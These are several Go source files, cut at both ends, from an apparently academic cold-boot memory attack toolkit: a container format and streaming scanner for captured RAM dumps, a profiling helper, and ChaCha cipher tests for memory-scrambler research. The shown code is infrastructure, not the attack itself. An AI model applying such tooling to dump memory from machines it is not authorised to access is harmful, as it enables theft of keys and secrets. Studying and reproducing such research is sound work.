		return nil, fmt.Errorf("dumpfile: container truncated: %d bytes is shorter than the header", totalSize)
	}
	if _, err := r.ReadAt(fixed[:], 0); err != nil {
		return nil, fmt.Errorf("dumpfile: reading header: %w", err)
	}
	if string(fixed[:len(Magic)]) != Magic {
		return nil, fmt.Errorf("dumpfile: bad magic %q", fixed[:len(Magic)])
	}
	headerLen := binary.LittleEndian.Uint32(fixed[len(Magic) : len(Magic)+4])
	dataLen := binary.LittleEndian.Uint64(fixed[len(Magic)+4 : len(Magic)+12])
	if headerLen > 1<<20 {
		return nil, fmt.Errorf("dumpfile: implausible header length %d", headerLen)
	}
	if dataLen > 1<<40 {
		return nil, fmt.Errorf("dumpfile: implausible dump length %d", dataLen)
	}
	dataOff := int64(len(fixed)) + int64(headerLen)
	if want := dataOff + int64(dataLen) + 4; totalSize < want {
		return nil, fmt.Errorf("dumpfile: container truncated: %d bytes, header promises %d", totalSize, want)
	}

	header := make([]byte, headerLen)
	if _, err := r.ReadAt(header, int64(len(fixed))); err != nil {
		return nil, fmt.Errorf("dumpfile: reading metadata: %w", err)
	}
	var meta Metadata
	if err := json.Unmarshal(header, &meta); err != nil {
		return nil, fmt.Errorf("dumpfile: decoding metadata: %w", err)
	}
	var crc [4]byte
	if _, err := r.ReadAt(crc[:], dataOff+int64(dataLen)); err != nil {
		return nil, fmt.Errorf("dumpfile: reading checksum: %w", err)
	}
	return &File{
		meta:    meta,
		r:       r,
		dataOff: dataOff,
		dataLen: int64(dataLen),
		wantCRC: binary.LittleEndian.Uint32(crc[:]),
	}, nil
}

// Meta returns the acquisition metadata.
func (f *File) Meta() Metadata { return f.meta }

// Size returns the image length in bytes.
func (f *File) Size() int64 { return f.dataLen }

// ReadAt reads image bytes (offsets are image-relative, not container-
// relative), satisfying io.ReaderAt so the file plugs directly into the
// attack's streaming sources.
func (f *File) ReadAt(p []byte, off int64) (int, error) {
	if off < 0 || off > f.dataLen {
		return 0, fmt.Errorf("dumpfile: read at %d outside image of %d bytes", off, f.dataLen)
	}
	if max := f.dataLen - off; int64(len(p)) > max {
		n, err := f.r.ReadAt(p[:max], f.dataOff+off)
		if err == nil {
			err = io.EOF
		}
		return n, err
	}
	return f.r.ReadAt(p, f.dataOff+off)
}

// verifyChunkBytes is how much image VerifyChecksum hashes per read.
const verifyChunkBytes = 1 << 20

// VerifyChecksum streams the image through CRC32 and compares it against
// the trailer, without ever holding more than one chunk in memory. The
// result is cached: subsequent calls are free. Read is eager (it verifies
// before returning data); the streaming reader makes this an explicit,
// lazy step so a campaign can start scanning immediately and verify in
// parallel — or skip verification when the transport is already checked.
func (f *File) VerifyChecksum() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.verified {
		return nil
	}
	crc := uint32(0)
	buf := make([]byte, verifyChunkBytes)
	for off := int64(0); off < f.dataLen; off += verifyChunkBytes {
		n := int64(len(buf))
		if off+n > f.dataLen {
			n = f.dataLen - off
		}
		if _, err := f.r.ReadAt(buf[:n], f.dataOff+off); err != nil {
			return fmt.Errorf("dumpfile: verifying image at %d: %w", off, err)
		}
		crc = crc32.Update(crc, crc32.IEEETable, buf[:n])
	}
	if crc != f.wantCRC {
		return fmt.Errorf("dumpfile: checksum mismatch (corrupted in transit?)")
	}
	f.verified = true
	return nil
}

// Close releases the underlying file when the File came from Open; it is
// a no-op for NewReader-backed files.
func (f *File) Close() error {
	if f.closer != nil {
		return f.closer.Close()
	}
	return nil
}

// Windows returns an iterator over the image in windows of window bytes,
// each extended by overlap bytes past its end (so a scanner whose match
// unit straddles a boundary sees it whole in exactly one window). The
// iterator reuses one buffer of window+overlap bytes across calls.
func (f *File) Windows(window, overlap int) *Windows {
	if window <= 0 {
		window = DefaultWindowBytes
	}
	if overlap < 0 {
		overlap = 0
	}
	return &Windows{f: f, window: int64(window), buf: make([]byte, 0, window+overlap), overlap: int64(overlap)}
}

// DefaultWindowBytes is the Windows iterator's default window size.
const DefaultWindowBytes = 8 << 20

// Windows iterates a File's image window by window; see File.Windows.
type Windows struct {
	f       *File
	window  int64
	overlap int64
	next    int64
	buf     []byte
	err     error
}

// Next returns the next window's image offset and contents, or ok=false
// when the image is exhausted or a read failed (check Err). The returned
// slice is only valid until the following Next call.
func (w *Windows) Next() (off int64, data []byte, ok bool) {
	if w.err != nil || w.next >= w.f.dataLen {
		return 0, nil, false
	}
	off = w.next
	n := w.window + w.overlap
	if off+n > w.f.dataLen {
		n = w.f.dataLen - off
	}
	w.buf = w.buf[:n]
	if _, err := w.f.ReadAt(w.buf, off); err != nil {
		w.err = fmt.Errorf("dumpfile: reading window at %d: %w", off, err)
		return 0, nil, false
	}
	w.next += w.window
	return off, w.buf, true
}

// Err reports the first read error the iterator hit, if any.
func (w *Windows) Err() error { return w.err }
