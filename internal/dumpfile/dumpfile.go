// Package dumpfile defines the on-disk container for captured memory
// dumps, so the attack toolkit can separate acquisition (on the machine
// with the victim DIMM) from analysis (anywhere): a magic header, a JSON
// metadata block describing how the dump was taken, the raw image, and a
// CRC32 trailer guarding against truncation or bit rot in transit.
package dumpfile

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"os"
)

// Magic identifies the format, versioned in the last two bytes.
const Magic = "CBDUMP01"

// Metadata records the acquisition context an analyst needs.
type Metadata struct {
	// CPU is the dumping machine's model (generation determines the
	// address map the analysis must assume).
	CPU string `json:"cpu"`
	// Channels is the dumping machine's channel count.
	Channels int `json:"channels"`
	// ScramblerOn records whether the dumping machine scrambled (the
	// usual double-scrambled capture) — informational; the litmus attack
	// does not need it.
	ScramblerOn bool `json:"scrambler_on"`
	// FreezeTempC and TransferSeconds describe the physical acquisition.
	FreezeTempC     float64 `json:"freeze_temp_c"`
	TransferSeconds float64 `json:"transfer_seconds"`
	// Notes is free-form provenance.
	Notes string `json:"notes,omitempty"`
}

// Write serializes a dump with its metadata to w.
func Write(w io.Writer, meta Metadata, data []byte) error {
	header, err := json.Marshal(meta)
	if err != nil {
		return fmt.Errorf("dumpfile: encoding metadata: %w", err)
	}
	if _, err := io.WriteString(w, Magic); err != nil {
		return err
	}
	var lens [12]byte
	binary.LittleEndian.PutUint32(lens[0:4], uint32(len(header)))
	binary.LittleEndian.PutUint64(lens[4:12], uint64(len(data)))
	if _, err := w.Write(lens[:]); err != nil {
		return err
	}
	if _, err := w.Write(header); err != nil {
		return err
	}
	if _, err := w.Write(data); err != nil {
		return err
	}
	var crc [4]byte
	binary.LittleEndian.PutUint32(crc[:], crc32.ChecksumIEEE(data))
	_, err = w.Write(crc[:])
	return err
}

// Read parses a dump container from r.
func Read(r io.Reader) (Metadata, []byte, error) {
	var meta Metadata
	magic := make([]byte, len(Magic))
	if _, err := io.ReadFull(r, magic); err != nil {
		return meta, nil, fmt.Errorf("dumpfile: reading magic: %w", err)
	}
	if !bytes.Equal(magic, []byte(Magic)) {
		return meta, nil, fmt.Errorf("dumpfile: bad magic %q", magic)
	}
	var lens [12]byte
	if _, err := io.ReadFull(r, lens[:]); err != nil {
		return meta, nil, fmt.Errorf("dumpfile: reading lengths: %w", err)
	}
	headerLen := binary.LittleEndian.Uint32(lens[0:4])
	dataLen := binary.LittleEndian.Uint64(lens[4:12])
	if headerLen > 1<<20 {
		return meta, nil, fmt.Errorf("dumpfile: implausible header length %d", headerLen)
	}
	if dataLen > 1<<34 {
		return meta, nil, fmt.Errorf("dumpfile: implausible dump length %d", dataLen)
	}
	header := make([]byte, headerLen)
	if _, err := io.ReadFull(r, header); err != nil {
		return meta, nil, fmt.Errorf("dumpfile: reading metadata: %w", err)
	}
	if err := json.Unmarshal(header, &meta); err != nil {
		return meta, nil, fmt.Errorf("dumpfile: decoding metadata: %w", err)
	}
	data := make([]byte, dataLen)
	if _, err := io.ReadFull(r, data); err != nil {
		return meta, nil, fmt.Errorf("dumpfile: reading image: %w", err)
	}
	var crc [4]byte
	if _, err := io.ReadFull(r, crc[:]); err != nil {
		return meta, nil, fmt.Errorf("dumpfile: reading checksum: %w", err)
	}
	if got := crc32.ChecksumIEEE(data); got != binary.LittleEndian.Uint32(crc[:]) {
		return meta, nil, fmt.Errorf("dumpfile: checksum mismatch (corrupted in transit?)")
	}
	return meta, data, nil
}

// WriteFile writes a dump container to path.
func WriteFile(path string, meta Metadata, data []byte) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := Write(f, meta, data); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// ReadFile reads a dump container from path.
func ReadFile(path string) (Metadata, []byte, error) {
	f, err := os.Open(path)
	if err != nil {
		return Metadata{}, nil, err
	}
	defer f.Close()
	return Read(f)
}
