package dumpfile

import (
	"bytes"
	"math/rand"
	"path/filepath"
	"strings"
	"testing"
)

func testMeta() Metadata {
	return Metadata{
		CPU: "i5-6600K", Channels: 1, ScramblerOn: true,
		FreezeTempC: -50, TransferSeconds: 2, Notes: "unit test",
	}
}

func TestRoundTrip(t *testing.T) {
	data := make([]byte, 4096)
	rand.New(rand.NewSource(1)).Read(data)
	var buf bytes.Buffer
	if err := Write(&buf, testMeta(), data); err != nil {
		t.Fatal(err)
	}
	meta, got, err := Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Error("data round trip failed")
	}
	if meta != testMeta() {
		t.Errorf("metadata round trip failed: %+v", meta)
	}
}

func TestFileRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "test.cbdump")
	data := []byte("a very small memory image................")
	if err := WriteFile(path, testMeta(), data); err != nil {
		t.Fatal(err)
	}
	meta, got, err := ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) || meta.CPU != "i5-6600K" {
		t.Error("file round trip failed")
	}
}

func TestRejectsBadMagic(t *testing.T) {
	var buf bytes.Buffer
	Write(&buf, testMeta(), []byte("data"))
	raw := buf.Bytes()
	raw[0] ^= 0xFF
	if _, _, err := Read(bytes.NewReader(raw)); err == nil {
		t.Error("bad magic accepted")
	}
}

func TestDetectsCorruption(t *testing.T) {
	data := make([]byte, 1024)
	var buf bytes.Buffer
	Write(&buf, testMeta(), data)
	raw := buf.Bytes()
	raw[len(Magic)+12+60+100] ^= 0x01 // flip a payload bit
	_, _, err := Read(bytes.NewReader(raw))
	if err == nil || !strings.Contains(err.Error(), "checksum") {
		t.Errorf("corruption not detected: %v", err)
	}
}

func TestDetectsTruncation(t *testing.T) {
	data := make([]byte, 1024)
	var buf bytes.Buffer
	Write(&buf, testMeta(), data)
	raw := buf.Bytes()
	if _, _, err := Read(bytes.NewReader(raw[:len(raw)-10])); err == nil {
		t.Error("truncation not detected")
	}
}

func TestRejectsImplausibleLengths(t *testing.T) {
	var buf bytes.Buffer
	buf.WriteString(Magic)
	buf.Write([]byte{0xFF, 0xFF, 0xFF, 0xFF}) // 4 GB header
	buf.Write(make([]byte, 8))
	if _, _, err := Read(&buf); err == nil {
		t.Error("implausible header length accepted")
	}
}

func TestEmptyDataAllowed(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, testMeta(), nil); err != nil {
		t.Fatal(err)
	}
	_, got, err := Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 0 {
		t.Error("empty payload round trip failed")
	}
}

func TestReadFileMissing(t *testing.T) {
	if _, _, err := ReadFile(filepath.Join(t.TempDir(), "nope.cbdump")); err == nil {
		t.Error("missing file read succeeded")
	}
}
