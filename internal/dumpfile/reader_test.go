package dumpfile

import (
	"bytes"
	"encoding/binary"
	"io"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// container serializes a dump into an in-memory container image.
func container(t *testing.T, meta Metadata, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, meta, data); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func testImage(n int, seed int64) []byte {
	data := make([]byte, n)
	rand.New(rand.NewSource(seed)).Read(data)
	return data
}

func TestReaderMatchesEagerRead(t *testing.T) {
	meta := Metadata{CPU: "i5-6600K", Channels: 2, ScramblerOn: true, FreezeTempC: -50, TransferSeconds: 2}
	data := testImage(10<<10, 1)
	raw := container(t, meta, data)

	f, err := NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	if f.Meta() != meta {
		t.Errorf("Meta() = %+v, want %+v", f.Meta(), meta)
	}
	if f.Size() != int64(len(data)) {
		t.Errorf("Size() = %d, want %d", f.Size(), len(data))
	}
	if err := f.VerifyChecksum(); err != nil {
		t.Fatalf("VerifyChecksum: %v", err)
	}
	if err := f.VerifyChecksum(); err != nil {
		t.Fatalf("second (cached) VerifyChecksum: %v", err)
	}
	got := make([]byte, len(data))
	if _, err := f.ReadAt(got, 0); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Error("streamed image differs from the written one")
	}
}

func TestOpenRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "dump.cbd")
	data := testImage(4<<10, 2)
	if err := WriteFile(path, Metadata{CPU: "i7-6700K"}, data); err != nil {
		t.Fatal(err)
	}
	f, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if f.Meta().CPU != "i7-6700K" {
		t.Errorf("CPU = %q", f.Meta().CPU)
	}
	if err := f.VerifyChecksum(); err != nil {
		t.Fatal(err)
	}
	tail := make([]byte, 16)
	if _, err := f.ReadAt(tail, f.Size()-16); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(tail, data[len(data)-16:]) {
		t.Error("tail read mismatch")
	}
}

func TestReaderTruncatedContainers(t *testing.T) {
	raw := container(t, Metadata{CPU: "x"}, testImage(1<<10, 3))
	// Every strictly shorter prefix must be rejected at open or at read/verify
	// time — never silently accepted.
	for _, cut := range []int{0, 4, len(Magic) + 11, len(Magic) + 12, len(raw) / 2, len(raw) - 5, len(raw) - 1} {
		f, err := NewReader(bytes.NewReader(raw[:cut]), int64(cut))
		if err == nil {
			t.Errorf("cut=%d: truncated container accepted (size %d, full %d)", cut, cut, len(raw))
			_ = f
			continue
		}
		if !strings.Contains(err.Error(), "truncated") && !strings.Contains(err.Error(), "reading") {
			t.Errorf("cut=%d: unexpected error %v", cut, err)
		}
	}
}

func TestReaderCorruptedCRC(t *testing.T) {
	raw := container(t, Metadata{}, testImage(2<<10, 4))

	// Flip a trailer bit: open succeeds (validation is lazy), verify fails.
	bad := append([]byte(nil), raw...)
	bad[len(bad)-1] ^= 0x01
	f, err := NewReader(bytes.NewReader(bad), int64(len(bad)))
	if err != nil {
		t.Fatalf("open should defer checksum validation, got %v", err)
	}
	if err := f.VerifyChecksum(); err == nil {
		t.Error("VerifyChecksum accepted a corrupted trailer")
	} else if !strings.Contains(err.Error(), "checksum mismatch") {
		t.Errorf("unexpected error %v", err)
	}

	// Flip an image bit instead: same outcome.
	bad = append([]byte(nil), raw...)
	bad[len(bad)-100] ^= 0x80
	f, err = NewReader(bytes.NewReader(bad), int64(len(bad)))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.VerifyChecksum(); err == nil {
		t.Error("VerifyChecksum accepted a corrupted image")
	}
}

func TestReaderBadMetadata(t *testing.T) {
	raw := container(t, Metadata{CPU: "ok"}, testImage(512, 5))

	// Corrupt the first JSON byte ('{' → '[') without touching the lengths.
	bad := append([]byte(nil), raw...)
	bad[len(Magic)+12] = '['
	if _, err := NewReader(bytes.NewReader(bad), int64(len(bad))); err == nil {
		t.Error("reader accepted mangled JSON metadata")
	} else if !strings.Contains(err.Error(), "decoding metadata") {
		t.Errorf("unexpected error %v", err)
	}

	// Wrong magic.
	bad = append([]byte(nil), raw...)
	bad[0] = 'X'
	if _, err := NewReader(bytes.NewReader(bad), int64(len(bad))); err == nil {
		t.Error("reader accepted a bad magic")
	}

	// Implausible header length.
	bad = append([]byte(nil), raw...)
	binary.LittleEndian.PutUint32(bad[len(Magic):], 1<<21)
	if _, err := NewReader(bytes.NewReader(bad), int64(len(bad))); err == nil {
		t.Error("reader accepted an implausible header length")
	}

	// Implausible data length.
	bad = append([]byte(nil), raw...)
	binary.LittleEndian.PutUint64(bad[len(Magic)+4:], 1<<41)
	if _, err := NewReader(bytes.NewReader(bad), int64(len(bad))); err == nil {
		t.Error("reader accepted an implausible dump length")
	}
}

func TestReaderReadAtBounds(t *testing.T) {
	data := testImage(1024, 6)
	raw := container(t, Metadata{}, data)
	f, err := NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}

	// A read crossing the image end is clamped and returns io.EOF, never the
	// CRC trailer bytes.
	buf := make([]byte, 64)
	n, err := f.ReadAt(buf, int64(len(data))-10)
	if err != io.EOF {
		t.Errorf("read past end: err = %v, want io.EOF", err)
	}
	if n != 10 || !bytes.Equal(buf[:n], data[len(data)-10:]) {
		t.Errorf("read past end returned %d bytes, want the final 10", n)
	}
	if _, err := f.ReadAt(buf, -1); err == nil {
		t.Error("negative offset accepted")
	}
	if _, err := f.ReadAt(buf, int64(len(data))+1); err == nil {
		t.Error("offset beyond image accepted")
	}
}

func TestWindowsCoverImageExactlyOnce(t *testing.T) {
	data := testImage(10_000, 7)
	raw := container(t, Metadata{}, data)
	f, err := NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}

	const window, overlap = 1 << 10, 63
	it := f.Windows(window, overlap)
	reassembled := make([]byte, 0, len(data))
	var prevOff int64 = -window
	for {
		off, chunk, ok := it.Next()
		if !ok {
			break
		}
		if off != prevOff+window {
			t.Fatalf("window offset %d, want %d", off, prevOff+window)
		}
		prevOff = off
		// The window body (without overlap) tiles the image.
		body := chunk
		if len(body) > window {
			body = body[:window]
		}
		reassembled = append(reassembled, body...)
		// The overlap must match the bytes the next window re-reads.
		if end := off + int64(len(chunk)); end > f.Size() {
			t.Fatalf("window at %d runs past the image: %d > %d", off, end, f.Size())
		}
		if !bytes.Equal(chunk, data[off:off+int64(len(chunk))]) {
			t.Fatalf("window at %d has wrong contents", off)
		}
	}
	if err := it.Err(); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(reassembled, data) {
		t.Error("window bodies do not tile the image")
	}
}

func TestWindowsTruncatedUnderlyingFile(t *testing.T) {
	data := testImage(8<<10, 8)
	raw := container(t, Metadata{}, data)
	f, err := NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	// Lie about the underlying reader after open: shrink it so window reads
	// fail mid-iteration (models a file truncated while being analyzed).
	f.r = bytes.NewReader(raw[:len(raw)/2])
	it := f.Windows(1<<10, 0)
	for {
		if _, _, ok := it.Next(); !ok {
			break
		}
	}
	if it.Err() == nil {
		t.Error("iterator over a shrunk file reported no error")
	}
}

func TestOpenMissingFile(t *testing.T) {
	if _, err := Open(filepath.Join(t.TempDir(), "nope.cbd")); !os.IsNotExist(err) {
		t.Errorf("err = %v, want not-exist", err)
	}
}
