package profiles

import (
	"os"
	"path/filepath"
	"testing"
)

func TestStartStopWritesProfiles(t *testing.T) {
	dir := t.TempDir()
	cpu := filepath.Join(dir, "cpu.pprof")
	mem := filepath.Join(dir, "mem.pprof")
	s, err := Start(cpu, mem)
	if err != nil {
		t.Fatal(err)
	}
	// Burn a little CPU so the profile has something to record.
	x := 0
	for i := 0; i < 1<<20; i++ {
		x += i * i
	}
	_ = x
	if err := s.Stop(); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{cpu, mem} {
		st, err := os.Stat(p)
		if err != nil {
			t.Fatalf("profile not written: %v", err)
		}
		if st.Size() == 0 {
			t.Errorf("%s is empty", p)
		}
	}
	// Stop is idempotent: the double defer+explicit call pattern must not
	// rewrite or error.
	if err := s.Stop(); err != nil {
		t.Errorf("second Stop: %v", err)
	}
}

func TestInertSession(t *testing.T) {
	s, err := Start("", "")
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Stop(); err != nil {
		t.Errorf("inert Stop: %v", err)
	}
	var nilSession *Session
	if err := nilSession.Stop(); err != nil {
		t.Errorf("nil Stop: %v", err)
	}
}

func TestStartBadPath(t *testing.T) {
	if _, err := Start(filepath.Join(t.TempDir(), "no", "such", "dir", "cpu"), ""); err == nil {
		t.Fatal("want error for uncreatable cpu profile path")
	}
	s, err := Start("", filepath.Join(t.TempDir(), "no", "such", "dir", "mem"))
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Stop(); err == nil {
		t.Fatal("want error for uncreatable mem profile path")
	}
}
