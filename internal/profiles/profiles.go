// Package profiles wires the runtime/pprof CPU and heap profilers behind
// the command-line flags the binaries expose (-cpuprofile/-memprofile).
// It exists so every command starts and stops the profilers the same way:
// CPU profiling runs from Start to Stop, and the heap profile is written
// at Stop after a forced GC so the snapshot reflects live memory, not
// garbage awaiting collection.
package profiles

import (
	"fmt"
	"os"
	"runtime"
	"runtime/pprof"
	"sync"
)

// Session is a running profiling session. The zero value (and nil) are
// inert: Stop on them is a no-op, so callers can unconditionally
// defer-Stop whatever Start returned.
type Session struct {
	cpuFile *os.File
	memPath string
	once    sync.Once
	err     error
}

// Start begins CPU profiling to cpuPath (when non-empty) and arranges for
// a heap profile to be written to memPath (when non-empty) at Stop. An
// empty path disables that profile; both empty returns an inert session.
func Start(cpuPath, memPath string) (*Session, error) {
	s := &Session{memPath: memPath}
	if cpuPath != "" {
		f, err := os.Create(cpuPath)
		if err != nil {
			return nil, fmt.Errorf("cpu profile: %w", err)
		}
		if err := pprof.StartCPUProfile(f); err != nil {
			f.Close()
			return nil, fmt.Errorf("cpu profile: %w", err)
		}
		s.cpuFile = f
	}
	return s, nil
}

// Stop flushes and closes the profiles. It is idempotent and nil-safe —
// commands both defer it and call it explicitly before os.Exit paths
// (os.Exit skips deferred calls) — and returns the first error from
// either profile writer.
func (s *Session) Stop() error {
	if s == nil {
		return nil
	}
	s.once.Do(func() {
		if s.cpuFile != nil {
			pprof.StopCPUProfile()
			s.err = s.cpuFile.Close()
		}
		if s.memPath != "" {
			f, err := os.Create(s.memPath)
			if err != nil {
				if s.err == nil {
					s.err = fmt.Errorf("mem profile: %w", err)
				}
				return
			}
			// Collect garbage first so the snapshot is live heap, matching
			// what `go tool pprof -sample_index=inuse_space` expects.
			runtime.GC()
			if err := pprof.WriteHeapProfile(f); err != nil && s.err == nil {
				s.err = fmt.Errorf("mem profile: %w", err)
			}
			if err := f.Close(); err != nil && s.err == nil {
				s.err = fmt.Errorf("mem profile: %w", err)
			}
		}
	})
	return s.err
}
