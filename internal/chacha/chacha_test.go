package chacha

import (
	"bytes"
	"encoding/hex"
	"math/rand"
	"testing"

	"coldboot/internal/bitutil"
)

func TestQuarterRoundRFCVector(t *testing.T) {
	// RFC 8439 §2.1.1.
	a, b, c, d := QuarterRound(0x11111111, 0x01020304, 0x9b8d6f43, 0x01234567)
	if a != 0xea2a92f4 || b != 0xcb1cf8ce || c != 0x4581472e || d != 0x5881c4bb {
		t.Errorf("quarter round = %08x %08x %08x %08x", a, b, c, d)
	}
}

func TestChaCha20BlockRFCVector(t *testing.T) {
	// RFC 8439 §2.3.2 block function test vector.
	key := make([]byte, 32)
	for i := range key {
		key[i] = byte(i)
	}
	nonce, _ := hex.DecodeString("000000090000004a00000000")
	st := RFCState(key, 1, nonce)
	var out [BlockSize]byte
	Core(&st, Rounds20, &out)
	want := "10f1e7e4d13b5915500fdd1fa32071c4" +
		"c7d1f4c733c068030422aa9ac3d46c4e" +
		"d2826446079faa0914c2d705d98b02a2" +
		"b5129cd1de164eb9cbd083e8a2503c4e"
	if hex.EncodeToString(out[:]) != want {
		t.Errorf("ChaCha20 block mismatch:\n got %x\nwant %s", out, want)
	}
}

func TestChaCha20KeystreamRFCVector(t *testing.T) {
	// RFC 8439 §2.4.2: first keystream block with counter=1,
	// nonce 000000000000004a00000000.
	key := make([]byte, 32)
	for i := range key {
		key[i] = byte(i)
	}
	nonce, _ := hex.DecodeString("000000000000004a00000000")
	st := RFCState(key, 1, nonce)
	var out [BlockSize]byte
	Core(&st, Rounds20, &out)
	wantPrefix := "224f51f3401bd9e12fde276fb8631ded8c131f823d2c06" // start of §2.4.2 keystream
	if !bytes.HasPrefix([]byte(hex.EncodeToString(out[:])), []byte(wantPrefix)) {
		t.Errorf("ChaCha20 keystream mismatch:\n got %x\nwant prefix %s", out, wantPrefix)
	}
}

func TestNewRejectsBadParameters(t *testing.T) {
	if _, err := New(10, make([]byte, 32), 0); err == nil {
		t.Error("expected error for 10 rounds")
	}
	if _, err := New(Rounds8, make([]byte, 16), 0); err == nil {
		t.Error("expected error for short key")
	}
}

func TestVariantsProduceDistinctStreams(t *testing.T) {
	key := make([]byte, 32)
	key[0] = 1
	var streams [][]byte
	for _, r := range []int{Rounds8, Rounds12, Rounds20} {
		c, err := New(r, key, 7)
		if err != nil {
			t.Fatal(err)
		}
		ks := make([]byte, 128)
		c.Keystream(ks, 0)
		streams = append(streams, ks)
	}
	for i := 0; i < len(streams); i++ {
		for j := i + 1; j < len(streams); j++ {
			if bytes.Equal(streams[i], streams[j]) {
				t.Errorf("round variants %d and %d produced identical streams", i, j)
			}
		}
	}
}

func TestDeterminism(t *testing.T) {
	key := make([]byte, 32)
	a, _ := New(Rounds8, key, 99)
	b, _ := New(Rounds8, key, 99)
	ka := make([]byte, 256)
	kb := make([]byte, 256)
	a.Keystream(ka, 5)
	b.Keystream(kb, 5)
	if !bytes.Equal(ka, kb) {
		t.Error("same parameters produced different keystreams")
	}
}

func TestCounterIndependence(t *testing.T) {
	// Block(counter) must be a pure function: generating blocks out of order
	// or repeatedly must give identical results. This is the property that
	// lets the memory controller decrypt lines in arbitrary access order.
	key := make([]byte, 32)
	key[31] = 0xAB
	c, _ := New(Rounds8, key, 1)
	var first, again [BlockSize]byte
	c.Block(1234, &first)
	var other [BlockSize]byte
	c.Block(99999, &other)
	c.Block(1234, &again)
	if first != again {
		t.Error("Block is not a pure function of the counter")
	}
	if first == other {
		t.Error("distinct counters gave identical blocks")
	}
}

func TestKeystreamMatchesBlocks(t *testing.T) {
	key := make([]byte, 32)
	c, _ := New(Rounds12, key, 3)
	ks := make([]byte, 3*BlockSize)
	c.Keystream(ks, 10)
	for i := 0; i < 3; i++ {
		var blk [BlockSize]byte
		c.Block(10+uint64(i), &blk)
		if !bytes.Equal(ks[i*BlockSize:(i+1)*BlockSize], blk[:]) {
			t.Fatalf("keystream block %d mismatch", i)
		}
	}
}

func TestXORKeyStreamRoundTrip(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	key := make([]byte, 32)
	rng.Read(key)
	c, _ := New(Rounds8, key, rng.Uint64())
	pt := make([]byte, 512)
	rng.Read(pt)
	enc := make([]byte, len(pt))
	c.XORKeyStream(enc, pt, 77)
	if bytes.Equal(enc, pt) {
		t.Fatal("encryption was the identity")
	}
	dec := make([]byte, len(pt))
	c.XORKeyStream(dec, enc, 77)
	if !bytes.Equal(dec, pt) {
		t.Fatal("round trip failed")
	}
}

func TestNoncesSeparateStreams(t *testing.T) {
	key := make([]byte, 32)
	a, _ := New(Rounds8, key, 1)
	b, _ := New(Rounds8, key, 2)
	ka := make([]byte, 64)
	kb := make([]byte, 64)
	a.Keystream(ka, 0)
	b.Keystream(kb, 0)
	if bytes.Equal(ka, kb) {
		t.Error("different nonces gave identical keystream")
	}
}

func TestKeystreamLooksRandom(t *testing.T) {
	// The paper's point: a strong cipher's output is indistinguishable from
	// random, which also satisfies the original electrical goals of
	// scrambling (≈50% ones, ≈50% transitions, ≈8 bits/byte entropy).
	key := make([]byte, 32)
	key[5] = 9
	c, _ := New(Rounds8, key, 0)
	ks := make([]byte, 1<<15)
	c.Keystream(ks, 0)
	if f := bitutil.OnesFraction(ks); f < 0.49 || f > 0.51 {
		t.Errorf("ones fraction = %f", f)
	}
	if f := bitutil.TransitionFraction(ks); f < 0.49 || f > 0.51 {
		t.Errorf("transition fraction = %f", f)
	}
	if e := bitutil.Entropy(ks); e < 7.9 {
		t.Errorf("entropy = %f", e)
	}
}

func TestCorePanicsOnOddRounds(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	var st [16]uint32
	var out [BlockSize]byte
	Core(&st, 7, &out)
}

func TestKeystreamPanicsOnPartialBlock(t *testing.T) {
	c, _ := New(Rounds8, make([]byte, 32), 0)
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	c.Keystream(make([]byte, 63), 0)
}

func BenchmarkChaCha8Block(b *testing.B) {
	c, _ := New(Rounds8, make([]byte, 32), 0)
	var out [BlockSize]byte
	b.SetBytes(BlockSize)
	for i := 0; i < b.N; i++ {
		c.Block(uint64(i), &out)
	}
}

func BenchmarkChaCha20Block(b *testing.B) {
	c, _ := New(Rounds20, make([]byte, 32), 0)
	var out [BlockSize]byte
	b.SetBytes(BlockSize)
	for i := 0; i < b.N; i++ {
		c.Block(uint64(i), &out)
	}
}
