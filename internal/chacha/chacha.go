// Package chacha is a from-scratch implementation of the ChaCha stream
// cipher family (Bernstein 2008) with the reduced-round variants the paper
// evaluates as memory-scrambler replacements: ChaCha8, ChaCha12, ChaCha20.
//
// The memory-encryption application (paper Section IV-B) uses the original
// DJB layout — 64-bit counter, 64-bit nonce — with the physical address as
// the counter and a boot-time random nonce. One ChaCha block is exactly one
// 64-byte DRAM burst, which is why ChaCha needs only a single counter
// injection per memory transaction where AES-CTR needs four.
package chacha

import (
	"encoding/binary"
	"fmt"

	"coldboot/internal/bitutil"
)

// BlockSize is the ChaCha output block size in bytes — equal to a DDR3/DDR4
// memory burst, a coincidence the paper's Section IV exploits.
const BlockSize = 64

// Valid round counts.
const (
	Rounds8  = 8
	Rounds12 = 12
	Rounds20 = 20
)

// sigma is the "expand 32-byte k" constant.
